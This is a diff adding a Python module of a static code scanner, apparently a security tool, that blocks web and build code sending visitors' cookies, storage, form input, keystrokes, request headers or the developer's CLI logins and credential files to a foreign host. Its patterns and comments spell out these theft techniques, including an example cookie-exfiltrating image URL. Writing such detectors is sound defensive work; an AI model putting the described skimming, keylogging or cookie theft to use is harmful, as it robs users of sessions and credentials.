@@ -1,0 +1,432 @@
+"""Web-app and build code that takes what is secret in visitors' browsers or on the developer's machine and
+sends it to a host that is not the app's own (rule `exfiltration`, block).
+
+What is secret here, beyond the environment and credential files network.py follows:
+- in a visitor's browser: `document.cookie`, the whole of `localStorage`/`sessionStorage` (or items picked at run
+  time), every form a page submits (`new FormData(...)` in a `submit` listener on the document), the keys typed on
+  a page (`e.key` in a key listener on the document), the bodies of the page's own requests read by a service
+  worker (`event.request.clone().text()`);
+- in a request a server (or a fetch wrapper) handles: its `authorization` and `cookie` headers, all its cookies;
+- in the user's own browser, attached through its debugging port (`puppeteer.connect`, `connectOverCDP`) with no
+  browser launched by the code: every cookie CDP lists, and what its logged-in pages show;
+- on the machine: the hosting CLIs' login files (Firebase, Vercel, Netlify, Wrangler), a credential file read by a
+  helper of the code's own (`grab(".aws/credentials")`), a token the code has just minted through an API.
+Sent in a request's body or URL (fetch and its clients, `navigator.sendBeacon`, `new Image().src`) to a literal
+host that is not this machine: blocked. A header authenticates (a proxy forwarding a visitor's `authorization` to
+its backend, a page calling its API with its token) and a relative URL is the app's own origin: both stay allowed,
+as do analytics of what is not secret. Script text the code injects into pages or bundles (`<script>` in
+`previewHead`, a chunk appended in `renderChunk`) is judged as the code it is.
+"""
+from __future__ import annotations
+
+import re
+
+from .. import paths
+from ..common_code import remote_target
+from .network import _AUTH_KEYS, _CLIENTS, _FETCHES, _HTTP, _VERBS, _WRAPS
+
+# a cheap test on the snippet: something of the above may be read in it
+HINT = re.compile(rb"document\.cookie|localStorage|sessionStorage|[\x27\x22](?:authorization|cookie)[\x27\x22]|"
+                  rb"headers\.(?:authorization|cookie)|\.cookies\b|FormData|\.clone\(\)|key(?:up|down|press)|"
+                  rb"getAllCookies|getCookies|connectOverCDP|\.connect\(|configstore|com\.vercel\.cli|netlify|wrangler|"
+                  rb"homedir|/tokens|api[-_]?keys|<script|renderChunk|transformIndexHtml|server\s*:")
+# script text that reads a page's secrets and sends them (for code injected as a string)
+_SCRIPT_SENDS = re.compile(r"sendBeacon\s*\(|\bfetch\s*\(|new\s+Image\b|XMLHttpRequest|WebSocket\s*\(")
+_SCRIPT_READS = re.compile(r"document\.cookie|localStorage|sessionStorage|addEventListener|process\.env|FormData")
+_SCRIPT_TAG = re.compile(r"<script\b[^>]*>(.*?)</script>", re.S | re.I)
+_STORAGES = frozenset({"localStorage", "sessionStorage", "window.localStorage", "window.sessionStorage",
+                       "self.localStorage", "globalThis.localStorage"})
+_AUTH_HEADERS = frozenset({"authorization", "cookie", "proxy-authorization", "x-api-key", "x-auth-token"})
+_BODY_READS = frozenset({"text", "json", "formData", "arrayBuffer", "blob"})
+_KEY_EVENTS = frozenset({"keyup", "keydown", "keypress"})
+_CDP_COOKIES = frozenset({"Network.getAllCookies", "Storage.getCookies", "Network.getCookies"})
+# what a page of the user's own browser shows, read by an automation library attached to it
+_PAGE_READS = frozenset({"$eval", "$$eval", "evaluate", "content", "cookies", "textContent", "innerText",
+                         "inner_text", "innerHTML"})
+# the hosting CLIs' stored logins
+_CLI_LOGINS = re.compile(r"configstore/firebase-tools\.json$|com\.vercel\.cli/auth\.json$|/\.?netlify/config\.json$|"
+                         r"\.wrangler/config/default\.toml$|/\.vercel/auth\.json$|/\.config/\.?vercel/auth\.json$")
+# APIs that create a credential and return it (a POST to one of these paths)
+_MINTS = re.compile(r"/(?:user/)?tokens/?$|/api[-_]?keys/?$|/access[-_]tokens/?$|/personal[-_]access[-_]tokens/?$",
+                    re.I)
+_GLOBAL_FETCH = frozenset({"globalThis.fetch", "window.fetch", "self.fetch", "global.fetch", "fetch"})
+
+
+class WebApp:
+    """Browser and visitor secrets sent to another host; script text injected into pages."""
+
+    def webapp_checks(self) -> None:
+        """Run once per snippet, after the walk, when HINT matched."""
+        self._web_attached = None
+        stack = [self.root]
+        senders, injected = [], []
+        while stack:
+            n = stack.pop()
+            t = n.type
+            if t == "call_expression":
+                senders.append(n)
+            elif t == "assignment_expression":
+                left = n.child_by_field_name("left")
+                if left is not None and left.type == "member_expression" and \
+                        self.src(left.child_by_field_name("property")) == "src" and self._image(left):
+                    senders.append(n)
+            elif t in ("string", "template_string"):
+                injected.append(n)
+                continue
+            elif t == "binary_expression" and self.string(n) is not None:
+                injected.append(n)
+                continue
+            elif t == "pair":
+                self._dev_server(n)
+            stack.extend(n.named_children)
+        for n in senders:
+            if self._web_sent(n):
+                return
+        for n in injected:
+            self._injected(n)
+
+    # -- the senders -------------------------------------------------------------------------------------------------
+    def _web_sent(self, node) -> bool:
+        if node.type == "assignment_expression":  # new Image().src = `https://x/?c=${document.cookie}`
+            return self._web_judge("new Image().src", node, node.child_by_field_name("right"), [])
+        fn = node.child_by_field_name("function")
+        if fn is None or fn.type == "import":
+            return False
+        q = self.qualname(fn)
+        if q is None:
+            return False
+        if fn.type == "identifier" and not self.mutable(q) and q in self.bound and \
+                self.qualname(self.bound[q]) in _GLOBAL_FETCH:
+            q = "fetch"  # const orig = globalThis.fetch; orig(url, …)
+        args = self.args(node)
+        if not args:
+            return False
+        mod, member = self.module(q)
+        if (mod, member) in _FETCHES or q in _GLOBAL_FETCH or (mod in _CLIENTS and member in _VERBS):
+            if args[0].type == "object" and (mod, member) in _FETCHES:
+                return False
+            return self._web_judge(q, node, args[0], args[1:])
+        if q.endswith("sendBeacon"):
+            return self._web_judge("navigator.sendBeacon", node, args[0], args[1:])
+        return False
+
+    def _web_judge(self, what: str, node, url, rest: list) -> bool:
+        text = self._url_text(url)
+        host = remote_target(text) if text is not None else None
+        if not host:
+            return False  # the app's own origin (a relative URL), this machine, or a host not written here
+        roots = list(self._url_payload(url)) + [r for r in rest if r is not None]
+        for said, at, minted in self._web_carried(roots):
+            if minted is not None and (minted == host or host.endswith("." + minted)):
+                continue
+            self.block("exfiltration", f"`{what}` sends {said} to {host}, a host that is not the app's own: never "
+                                       "send visitors' or the user's sessions, tokens or credentials elsewhere; keep "
+                                       "them in requests to the app's own origin (a relative URL)", at)
+            return True
+        return False
+
+    def _web_carried(self, roots: list) -> list:
+        """(what it is, node, the host that minted it or None) for each secret the expressions `roots` carry (not in
+        their headers)."""
+        out: list = []
+        stack = [(r, 0) for r in reversed(roots)]
+        seen: set = set()
+        steps = 0
+        while stack and steps < 800:
+            n, depth = stack.pop()
+            steps += 1
+            if n is None or n.id in seen:
+                continue
+            seen.add(n.id)
+            t = n.type
+            if t in ("comment", "number", "regex", "true", "false", "null", "property_identifier", "type_annotation"):
+                continue
+            if t in ("string", "template_string") and self.string(n) is not None:
+                continue
+            if t == "pair":
+                key = n.child_by_field_name("key")
+                if key is not None and self.src(key).strip("'\"`").lower() in _AUTH_KEYS:
+                    continue  # a header authenticates the request
+                stack.append((n.child_by_field_name("value"), depth))
+                continue
+            found = self._web_source(n)
+            if found is not None:
+                out.append((found[0], n, found[1]))
+                continue
+            if t == "call_expression":
+                fn = n.child_by_field_name("function")
+                if fn is not None and _HTTP.search(self.src(fn)):
+                    continue  # another request's response
+            if t in ("identifier", "shorthand_property_identifier"):
+                if depth < 6:
+                    stack.extend((v, depth + 1) for v in self._web_values(n))
+                continue
+            stack.extend((c, depth) for c in reversed(n.named_children))
+        return out
+
+    def _web_values(self, ident) -> list:
+        """What the name `ident` holds: network.py's values, a name destructured from an object
+        (`const { cookies } = await cdp.send(…)`), a promise callback's parameter (`p.then((body) => …)`)."""
+        values, changes = self._values_of(ident)
+        if values or changes:
+            return values + changes
+        name = self.src(ident)
+        up = ident.parent
+        while up is not None:
+            if up.type in ("arrow_function", "function_expression", "function"):
+                params = self.parameters(up) or {}
+                if name in params:
+                    holder = up.parent
+                    call = holder.parent if holder is not None and holder.type == "arguments" else None
+                    fn = call.child_by_field_name("function") if call is not None else None
+                    if fn is not None and fn.type == "member_expression" and \
+                            self.src(fn.child_by_field_name("property")) == "then":
+                        return [fn.child_by_field_name("object")]
+                    return []
+            elif up.type == "program":
+                break
+            up = up.parent
+        for d in self._destructured().get(name, ()):
+            if d.start_byte < ident.start_byte:
+                return [d]
+        return []
+
+    def _destructured(self) -> dict:
+        state = self._flows_state()
+        table = state.get("web destructured")
+        if table is None:
+            table = state["web destructured"] = {}
+            stack = [self.root]
+            while stack:
+                n = stack.pop()
+                if n.type == "variable_declarator":
+                    name, value = n.child_by_field_name("name"), n.child_by_field_name("value")
+                    if name is not None and value is not None and name.type == "object_pattern":
+                        for c in name.named_children:
+                            key = c.child_by_field_name("value") if c.type == "pair_pattern" else c
+                            if key is not None and key.type in ("shorthand_property_identifier_pattern", "identifier"):
+                                table.setdefault(self.src(key), []).append(value)
+                stack.extend(n.named_children)
+        return table
+
+    # -- the sources -------------------------------------------------------------------------------------------------
+    def _web_source(self, n):
+        """(what `n` is, the host that minted it or None) when it reads a secret of the kinds above; else None."""
+        t = n.type
+        if t == "member_expression":
+            text = self.src(n).replace("?.", ".")
+            if text.endswith("document.cookie"):
+                return "the page's cookies (document.cookie)", None
+            if text in _STORAGES and not self._storage_method(n):
+                return f"everything in {text.rpartition('.')[2]}", None
+            prop = self.src(n.child_by_field_name("property"))
+            obj = self.src(n.child_by_field_name("object"))
+            if prop.lower() in _AUTH_HEADERS and obj.lower().endswith("headers"):
+                return f"the request's {prop.lower()} header", None
+            if prop == "cookies" and re.search(r"(?i)\b(?:req|request)$", obj) and not self._storage_method(n):
+                return "every cookie of the request", None
+            if self._keystroke(n, prop):
+                return "the keys typed on the page (a keylogger)", None
+            return None
+        if t == "identifier":
+            if self.src(n) in _STORAGES and not self._storage_method(n):
+                return f"everything in {self.src(n)}", None
+            return None
+        if t == "new_expression":
+            if self.src(n.child_by_field_name("constructor")) == "FormData" and self._in_listener(n, ("submit",)):
+                return "every form submitted on the page (a listener on the whole document)", None
+            return None
+        if t != "call_expression":
+            return None
+        fn = n.child_by_field_name("function")
+        if fn is None or fn.type == "import":
+            return None
+        args = self.args(n)
+        if fn.type != "member_expression":
+            return self._helper_read(n, fn) or self._login_read(n, fn, self.src(fn), args)
+        prop = self.src(fn.child_by_field_name("property"))
+        obj = fn.child_by_field_name("object")
+        key = self.string(args[0]) if args else None
+        if prop == "get" and key is not None and key.lower() in _AUTH_HEADERS and self._headers(obj):
+            return f"the request's {key.lower()} header", None
+        if prop == "getAll" and self.src(obj).endswith("cookies"):
+            return "every cookie of the request", None
+        if prop == "getItem" and self.src(obj) in _STORAGES and args and key is None:
+            return f"items of {self.src(obj).rpartition('.')[2]} picked at run time", None
+        if prop in _BODY_READS and re.search(r"(?:^|\.)request(?:\.clone\(\))?$", self.src(obj)) and \
+                re.search(rb"addEventListener\(\s*[\x27\x22]fetch[\x27\x22]|onfetch", self.doc.data):
+            return "the body of a request the page sends (what a visitor typed into a form)", None
+        if prop == "send" and key in _CDP_COOKIES:
+            return f"every cookie of the browser ({key})", None
+        if prop in _PAGE_READS and self._attached():
+            return "what the user's own browser shows (attached through its debugging port)", None
+        if prop in ("json", "text") and obj is not None:
+            minted = self._minted(obj)
+            if minted is not None:
+                return f"a credential just created at {minted}", minted
+        return self._login_read(n, fn, prop, args)
+
+    def _login_read(self, n, fn, last: str, args: list):
+        """A read of a credential file or of a hosting CLI's stored login."""
+        if last not in ("readFileSync", "readFile", "readJson", "readJsonSync", "readJSON", "readJSONSync") or not args:
+            return None
+        read = self._file_read(n, fn)
+        if read is not None and read[0] == "file":
+            return f"the credential file {read[1]}", None
+        path = self.decoded(args[0])
+        if path is not None and _CLI_LOGINS.search(path):
+            return f"a hosting CLI's stored login ({path})", None
+        return None
+
+    def _helper_read(self, call, fn):
+        """`grab(".aws/credentials")` with `grab` a helper of the code's own reading a file under the home."""
+        if fn is None or fn.type != "identifier":
+            return None
+        name = self.src(fn)
+        if name not in self.functions:
+            return None
+        values, _ = self._values_of(fn)
+        made = values[-1] if values else self._declared_function(name)
+        body = self.src(made) if made is not None else ""
+        if not made or "homedir" not in body or not re.search(r"\bread(?:File|FileSync|Json)\b", body):
+            return None
+        for a in self.args(call):
+            v = self.string(a)
+            if v and not v.startswith(("/", "~")) and (paths.is_secret("~/" + v) or _CLI_LOGINS.search("~/" + v)):
+                return f"the credential file ~/{v}", None
+        return None
+
+    def _declared_function(self, name: str):
+        stack = [self.root]
+        while stack:
+            n = stack.pop()
+            if n.type == "function_declaration" and self.src(n.child_by_field_name("name")) == name:
+                return n
+            stack.extend(n.named_children)
+        return None
+
+    def _minted(self, obj):
+        """The host of a POST that creates a credential when `obj` holds its response."""
+        while obj is not None and obj.type in _WRAPS and obj.named_children:
+            obj = obj.named_children[0]
+        if obj is not None and obj.type == "identifier":
+            values, _ = self._values_of(obj)
+            obj = values[-1] if values else None
+            while obj is not None and obj.type in _WRAPS and obj.named_children:
+                obj = obj.named_children[0]
+        if obj is None or obj.type != "call_expression":
+            return None
+        fn = obj.child_by_field_name("function")
+        q = self.qualname(fn) if fn is not None and fn.type != "import" else None
+        if q is None or (self.module(q) not in _FETCHES and q not in _GLOBAL_FETCH):
+            return None
+        args = self.args(obj)
+        text = self._url_text(args[0]) if args else None
+        if not text or not re.search(r"(?i)\bmethod\s*:\s*['\"`]POST", self.src(obj)):
+            return None
+        path = text.split("?", 1)[0]
+        host = remote_target(text)
+        return host if host and _MINTS.search(path) else None
+
+    def _storage_method(self, n) -> bool:
+        """`localStorage.getItem(…)`, `localStorage.setItem`: one item (or a write), not the whole store."""
+        up = n.parent
+        return up is not None and up.type in ("member_expression", "subscript_expression") and \
+            up.child_by_field_name("object") == n
+
+    def _headers(self, obj) -> bool:
+        if obj is None:
+            return False
+        if self.src(obj).lower().endswith("headers"):
+            return True
+        if obj.type == "identifier":
+            values, _ = self._values_of(obj)
+            return any(v.type == "new_expression" and self.src(v.child_by_field_name("constructor")) == "Headers"
+                       for v in values)
+        return False
+
+    def _keystroke(self, n, prop: str) -> bool:
+        if prop not in ("key", "code", "keyCode", "which", "char"):
+            return False
+        return self._in_listener(n, _KEY_EVENTS)
+
+    def _in_listener(self, n, events) -> bool:
+        """Whether `n` is inside a listener for one of `events` added on the whole document or window."""
+        up = n.parent
+        while up is not None:
+            if up.type in ("arrow_function", "function_expression", "function"):
+                holder = up.parent
+                call = holder.parent if holder is not None and holder.type == "arguments" else None
+                fn = call.child_by_field_name("function") if call is not None else None
+                if fn is not None and self.src(fn) in ("document.addEventListener", "window.addEventListener",
+                                                       "addEventListener", "document.body.addEventListener"):
+                    args = self.args(call)
+                    return bool(args) and self.string(args[0]) in events
+            up = up.parent
+        return False
+
+    def _attached(self) -> bool:
+        """Whether the code attaches to a browser it did not launch (the user's own, through its debugging port)."""
+        if self._web_attached is None:
+            data = self.doc.data
+            self._web_attached = bool(re.search(rb"\b(?:puppeteer|playwright)", data) and re.search(
+                rb"\.connect\(\s*\{[^}]*browser(?:URL|WSEndpoint)|connectOverCDP\(", data) and
+                not re.search(rb"\.launch(?:PersistentContext)?\(", data))
+        return self._web_attached
+
+    def _image(self, left) -> bool:
+        obj = left.child_by_field_name("object")
+        while obj is not None and obj.type in _WRAPS and obj.named_children:
+            obj = obj.named_children[0]
+        if obj is not None and obj.type == "identifier":
+            made = self.bound.get(self.src(obj))
+            obj = made if made is not None else obj
+        return obj is not None and obj.type == "new_expression" and \
+            self.src(obj.child_by_field_name("constructor")) == "Image"
+
+    # -- dev servers ---------------------------------------------------------------------------------------------------
+    def _dev_server(self, pair) -> None:
+        """Vite's `server: { host: "0.0.0.0", fs: { allow: ["/"] } }`: every file of the machine served to the
+        network."""
+        key = pair.child_by_field_name("key")
+        value = pair.child_by_field_name("value")
+        if key is None or value is None or self.src(key).strip("'\"") != "server" or value.type != "object":
+            return
+        text = self.src(value)
+        if not re.search(r"\bhost\s*:\s*(?:true\b|['\"](?:0\.0\.0\.0|::)['\"])", text):
+            return
+        m = re.search(r"\ballow\s*:\s*\[([^\]]*)\]", text)
+        if m is None:
+            return
+        for item in re.findall(r"['\"`]([^'\"`]+)['\"`]|(homedir\(\))", m.group(1)):
+            where = item[0] or "~"
+            if paths.normalize(where) in ("/", "~"):
+                self.block("exfiltration", f"the dev server allows serving {where} and listens on every interface: "
+                                           "anyone on the network reads every key and credential of this machine; "
+                                           "allow only the project's folders, or listen on localhost", value)
+                return
+
+    # -- script text injected into pages and bundles ---------------------------------------------------------------
+    def _injected(self, node) -> None:
+        v = self.string(node)
+        if v is None and node.type == "template_string":
+            v = self._script_text(node)
+        if v is None or len(v) < 24 or not _SCRIPT_SENDS.search(v) or not _SCRIPT_READS.search(v) or \
+                "http" not in v:
+            return
+        scripts = _SCRIPT_TAG.findall(v) if "<script" in v.lower() else [v]
+        for s in scripts:
+            if _SCRIPT_SENDS.search(s) and _SCRIPT_READS.search(s):
+                self.ctx.nested(s, "typescript", self.doc, node, None)
+
+    def _script_text(self, node) -> str | None:
+        """A template's text with each substitution standing for what it is: the environment stays `process.env`,
+        anything else a name."""
+        out = []
+        for c in node.named_children:
+            if c.type == "template_substitution":
+                inner = c.named_children[0] if c.named_children else None
+                out.append("process.env" if inner is not None and self.mentions_env(inner) else "__value")
+            else:
+                out.append(self.src(c))
+        return "".join(out)
